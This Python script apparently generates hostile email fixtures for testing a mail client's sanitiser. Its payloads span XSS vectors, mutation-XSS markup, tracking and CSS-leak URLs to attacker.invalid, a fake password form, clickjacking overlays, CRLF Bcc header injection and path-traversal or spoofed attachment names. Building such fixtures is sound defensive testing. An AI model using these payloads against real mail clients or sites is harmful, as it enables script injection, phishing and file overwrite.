#!/usr/bin/env python3
"""Writes the hostile .eml fixtures in this directory (CRLF line ends): python3 generate.py"""
import base64, os
os.chdir(os.path.dirname(os.path.abspath(__file__)))
def b64(s): return base64.b64encode(s.encode()).decode()
P = "window.__pwned=1;alert(1)"
Q3 = '"' * 3

def hdr(name, subject):
    return (f"From: Mallory <mallory@attacker.example.net>\n"
            f"To: support@example.com\n"
            f"Subject: {subject}\n"
            f"Date: Mon, 03 Feb 2025 10:00:00 +0000\n"
            f"Message-ID: <hostile-{name}@attacker.example.net>\n"
            f"MIME-Version: 1.0\n")

files = {}

# ---------------------------------------------------------------- script-tags
html = f"""<html><head>
<meta http-equiv="refresh" content="0;url=javascript:{P}">
<meta http-equiv="refresh" content="2;url=http://attacker.invalid/phish">
<base href="http://attacker.invalid/">
<script>{P}</script>
</head>
<body onload="{P}">
<p id="canary">CANARY-SCRIPT-TAGS: this sentence must be visible.</p>
<script>{P}</script>
<scr<script>ipt>{P}</scr</script>ipt>
<SCRIPT SRC="http://attacker.invalid/x.js"></SCRIPT>
<img src=x onerror="{P}">
<svg onload="{P}"><circle r="5"/></svg>
<svg><script>{P}</script></svg>
<iframe srcdoc="&lt;script&gt;parent.__pwned=1;{P}&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.__pwned=1;{P}"></iframe>
<object data="data:text/html,&lt;script&gt;parent.__pwned=1;{P}&lt;/script&gt;"></object>
<embed src="data:text/html,&lt;script&gt;parent.__pwned=1;{P}&lt;/script&gt;">
<form action="http://attacker.invalid/steal" method="post">
<input name="password" type="password" placeholder="Confirm your password">
<button id="hostile-submit">Verify account</button>
<button id="hostile-formaction" formaction="javascript:{P}">Verify (formaction)</button>
</form>
<details open ontoggle="{P}"><summary>details</summary></details>
<video><source onerror="{P}"></video>
<input autofocus onfocus="{P}">
<a href="#" onclick="{P}" id="hostile-onclick">click me</a>
<div onmouseover="{P}">hover me</div>
<p id="canary-end">CANARY-SCRIPT-TAGS-END</p>
</body></html>
"""
files["script-tags.eml"] = hdr("script-tags", "Hostile: script tags") + f"""Content-Type: multipart/alternative; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

CANARY-SCRIPT-TAGS: this sentence must be visible.

--b1
Content-Type: text/html; charset=utf-8

{html}
--b1--
"""

# ---------------------------------------------------------------- urls
html = f"""<html><body>
<p id="canary">CANARY-URLS: links and images below.</p>
<p><a id="js" href="javascript:{P}">javascript link</a></p>
<p><a id="js-case" href="JaVaScRiPt:{P}">mixed-case javascript link</a></p>
<p><a id="js-space" href=" &#x09;javascript:{P}">javascript link after whitespace</a></p>
<p><a id="js-entity" href="jav&#x61;script:{P}">entity-encoded javascript link</a></p>
<p><a id="js-decimal" href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{P}">decimal-entity javascript link</a></p>
<p><a id="js-newline" href="java&#10;script:{P}">javascript link with a newline</a></p>
<p><a id="data" href="data:text/html,&lt;script&gt;{P}&lt;/script&gt;">data URL link</a></p>
<p><a id="data-b64" href="data:text/html;base64,{b64('<script>'+P+'</script>')}">base64 data URL link</a></p>
<p><a id="vbs" href="vbscript:msgbox(1)">vbscript link</a></p>
<p><a id="ordinary" href="https://example.com/help">an ordinary link</a></p>
<img id="track" src="http://attacker.invalid/track.gif" width="1" height="1">
<img id="track-relative" src="//attacker.invalid/protocol-relative.gif">
<img id="srcset" alt="srcset" srcset="http://attacker.invalid/srcset-1x.png 1x, http://attacker.invalid/srcset-2x.png 2x">
<picture><source srcset="http://attacker.invalid/picture.webp"><img alt="picture" src="http://attacker.invalid/picture.png"></picture>
<div id="bg" style="background:url(http://attacker.invalid/bg.png)">CSS background</div>
<div style="background-image: url('http://attacker.invalid/bg2.png')">CSS background-image</div>
<table background="http://attacker.invalid/table.png"><tr><td>table background</td></tr></table>
<video poster="http://attacker.invalid/poster.png"></video>
<link rel="stylesheet" href="http://attacker.invalid/style.css">
<a href="https://example.com/" ping="http://attacker.invalid/ping">link with ping</a>
<p id="canary-end">CANARY-URLS-END</p>
</body></html>
"""
files["urls.eml"] = hdr("urls", "Hostile: URLs") + f"""Content-Type: text/html; charset=utf-8

{html}"""

# ---------------------------------------------------------------- svg-attachment
svg = f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="{P}">
<script type="text/javascript">{P}</script>
<rect width="120" height="40" fill="#c00"/>
<text x="10" y="25" fill="#fff">SVG</text>
<image href="http://attacker.invalid/svg-image.png" width="1" height="1"/>
</svg>
"""
page = f"""<!doctype html>
<html><body onload="{P}"><h1>attached page</h1><script>{P}</script></body></html>
"""
svg64 = b64(svg)
svg64 = "\n".join(svg64[i:i + 76] for i in range(0, len(svg64), 76))
files["svg-attachment.eml"] = hdr("svg-attachment", "Hostile: SVG and HTML attachments") + f"""Content-Type: multipart/mixed; boundary="mixed"

--mixed
Content-Type: multipart/related; boundary="related"

--related
Content-Type: text/html; charset=utf-8

<html><body>
<p id="canary">CANARY-SVG-ATTACHMENT: an inline SVG logo follows.</p>
<img id="inline-svg" src="cid:logo@attacker.example.net" alt="logo">
<object data="cid:logo@attacker.example.net" type="image/svg+xml"></object>
<embed src="cid:logo@attacker.example.net" type="image/svg+xml">
<iframe src="cid:logo@attacker.example.net"></iframe>
<p id="canary-end">CANARY-SVG-ATTACHMENT-END</p>
</body></html>

--related
Content-Type: image/svg+xml; name="logo.svg"
Content-Disposition: inline; filename="logo.svg"
Content-ID: <logo@attacker.example.net>
Content-Transfer-Encoding: base64

{svg64}

--related--

--mixed
Content-Type: image/svg+xml; name="evil.svg"
Content-Disposition: attachment; filename="evil.svg"

{svg}
--mixed
Content-Type: text/html; charset=utf-8; name="page.html"
Content-Disposition: attachment; filename="page.html"

{page}
--mixed--
"""

# ---------------------------------------------------------------- css-tricks
html = f"""<html><head>
<style>@import url(http://attacker.invalid/import.css);
@import "http://attacker.invalid/import2.css";</style>
<style>
body {{ display: none !important; }}
html {{ visibility: hidden !important; }}
* {{ color: transparent !important; pointer-events: none !important; }}
.overlay, #overlay {{ position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: #fff; }}
nav, header, footer, form, button, a {{ display: none !important; }}
input[value^="a"] {{ background: url(http://attacker.invalid/leak?a); }}
@font-face {{ font-family: x; src: url(http://attacker.invalid/font.woff); }}
p {{ font-family: x; width: expression({P}); }}
</style>
</head><body>
<div id="overlay" class="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#fff">
<p style="font-size:40px">Your session expired. <a href="http://attacker.invalid/login">Log in again</a></p>
</div>
<p id="canary" style="width: expression({P}); background-image: url(javascript:{P}); behavior: url(http://attacker.invalid/x.htc)">CANARY-CSS-TRICKS: this sentence must be visible.</p>
<div style="position:absolute;top:0;left:0;width:100%;height:100%;z-index:99999;background:red">absolute overlay</div>
<div style="position: fixed; inset: 0; opacity: 0.01; z-index: 99999">transparent click-jacking layer</div>
<div style="margin-top:-5000px">pulled over the page</div>
<p id="canary-end">CANARY-CSS-TRICKS-END</p>
</body></html>
"""
files["css-tricks.eml"] = hdr("css-tricks", "Hostile: CSS tricks") + f"""Content-Type: text/html; charset=utf-8

{html}"""

# ---------------------------------------------------------------- broken-markup
I = f"<img src=x onerror={P}>"
html = f"""<div><div><table><tr><td><p id="canary">CANARY-BROKEN-MARKUP: unclosed tags follow.
</td></td></tr></table></div></div></div></div></div></td></tr></table></body></html>
<!--<script>{P}</script>-->
<!-- --!><script>{P}</script> -->
<!--><script>{P}</script>-->
<![CDATA[<script>{P}</script>]]>
<noscript><p title="</noscript>{I}"></noscript>
<textarea></textarea><script>{P}</script></textarea>
<title></title>{I}</title>
<style></style>{I}</style>
<svg><style>{I}</style></svg>
<svg></p><style><a id="</style>{I}">
<math><mtext><table><mglyph><style>{I}</style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math>{I}
<select><template><style>{I}</style></template></select>
<xmp>{I}</xmp>
<a href="x" title="</a>{I}">quoted attribute</a>
<img {Q3}><script>{P}</script>">
<iframe><iframe></iframe><script>{P}</script></iframe>
<div id="unclosed"><span><b><i><u><font><center>
<p id="canary-end">CANARY-BROKEN-MARKUP-END</p>
<plaintext><script>{P}</script>
"""
files["broken-markup.eml"] = hdr("broken-markup", "Hostile: broken markup") + f"""Content-Type: text/html; charset=utf-8

{html}"""

# ---------------------------------------------------------------- header-injection
crlf_bcc = "=?utf-8?b?" + b64("\r\nBcc: victim@example.com\r\n") + "?="
script_word = "=?utf-8?b?" + b64(f"<script>{P}</script>") + "?="
img_word = "=?utf-8?q?" + "".join(c if c.isalnum() else "=%02X" % ord(c) for c in f"<img src=x onerror={P}>") + "?="
long_tail = " ".join(f"word{i:03d}" for i in range(300))
subject = (f"<b>bold</b> <script>{P}</script> {crlf_bcc} {script_word} {img_word} "
           f"CANARY-HEADER-INJECTION {long_tail} END-OF-LONG-SUBJECT")

def fold(name, value):
    """Folds at spaces, lines under 78 characters (a word longer than that stays whole)."""
    out, line = [], name + ":"
    for w in value.split(" "):
        if len(line) + 1 + len(w) > 76 and line != name + ":":
            out.append(line)
            line = " " + w
        else:
            line += " " + w
    out.append(line)
    return "\n".join(out)

files["header-injection.eml"] = (
    fold("From", f'"<script>{P}</script>\\"><img src=x onerror={P}>" <mallory@attacker.example.net>') + "\n"
    + "To: support@example.com\n"
    + fold("Cc", f"{crlf_bcc} <cc-one@attacker.example.net>, {script_word} <cc-two@attacker.example.net>") + "\n"
    + fold("Reply-To", f'"<img src=x onerror={P}>" <reply@attacker.example.net>') + "\n"
    + fold("Subject", subject) + "\n"
    + "Date: Mon, 03 Feb 2025 10:00:00 +0000\n"
    + "Message-ID: <hostile-header-injection@attacker.example.net>\n"
    + f'In-Reply-To: <"><script>{P}</script>@attacker.example.net>\n'
    + f"X-Mailer: <script>{P}</script>\n"
    + "MIME-Version: 1.0\n"
    + "Content-Type: text/plain; charset=utf-8\n\n"
    + "CANARY-HEADER-INJECTION: the sender's name, the subject and the CC names are the attack.\n"
)

# ---------------------------------------------------------------- path-traversal
def att(disp, ctype="text/plain", body="not what its name says\n"):
    return f"--mixed\nContent-Type: {ctype}\nContent-Disposition: {disp}\n\n{body}\n"

parts = [
    att('attachment; filename="../../etc/passwd"'),
    att('attachment; filename="..\\\\..\\\\windows\\\\win.ini"'),
    att('attachment; filename="/etc/shadow"'),
    att(f'attachment; filename="<script>{P}</script>.png"', "image/png"),
    att('attachment; filename="a\\"; filename=evil.exe"', "application/octet-stream"),
    att("attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe", "application/octet-stream"),
    att("attachment; filename*=UTF-8''report.pdf%00.exe", "application/octet-stream"),
    att("attachment; filename*=UTF-8''..%2F..%2F..%2Ftmp%2Fpostdesk-pwned.txt"),
    att("attachment;\n filename*0*=UTF-8''..%2F..%2F;\n filename*1=\"root/.ssh/authorized_keys\""),
    att('attachment; filename="=?utf-8?b?' + b64("../../../etc/cron.d/pwned") + '?="'),
    att("attachment", 'text/plain; name="../../name-parameter.txt"'),
]
files["path-traversal.eml"] = hdr("path-traversal", "Hostile: attachment names") + f"""Content-Type: multipart/mixed; boundary="mixed"

--mixed
Content-Type: text/plain; charset=utf-8

CANARY-PATH-TRAVERSAL: eleven attachments with hostile names.

{"".join(parts)}--mixed--
"""

for name, text in files.items():
    with open(name, "w", newline="\r\n") as f:
        f.write(text)
    print(name, len(text))
